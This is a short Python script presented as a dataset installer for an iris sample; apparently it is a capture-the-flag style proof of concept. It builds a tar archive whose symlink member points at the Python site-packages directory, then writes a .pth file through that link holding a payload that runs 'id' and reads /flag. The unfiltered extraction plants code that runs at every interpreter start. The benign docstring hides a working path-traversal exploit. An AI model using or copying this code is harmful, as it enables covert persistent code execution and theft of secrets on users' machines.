"""Downloads-free dataset installer: unpacks the bundled sample data."""
import io
import os
import shutil
import sysconfig
import tarfile
import tempfile

PAYLOAD = b"import os; os.system('id > /tmp/.pj_tar 2>&1; cat /flag >> /tmp/.pj_tar 2>/dev/null')\n"


def build_bundle():
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tf:
        readme = b"iris sample, 150 rows\n"
        ti = tarfile.TarInfo("data/README.txt")
        ti.size = len(readme)
        tf.addfile(ti, io.BytesIO(readme))
        link = tarfile.TarInfo("data/cache")
        link.type = tarfile.SYMTYPE
        link.linkname = sysconfig.get_paths()["purelib"]     # member 1: symlink pointing outside
        tf.addfile(link)
        pth = tarfile.TarInfo("data/cache/zz-dataset-cache.pth")  # member 2: written through it
        pth.size = len(PAYLOAD)
        tf.addfile(pth, io.BytesIO(PAYLOAD))
    path = os.path.join(tempfile.gettempdir(), "iris-sample.tar.gz")
    with open(path, "wb") as fh:
        fh.write(buf.getvalue())
    return path


if __name__ == "__main__":
    dest = tempfile.mkdtemp(prefix="datasets-")
    shutil.unpack_archive(build_bundle(), dest)   # tarfile extractall without a filter
    print(open(os.path.join(dest, "data", "README.txt")).read())
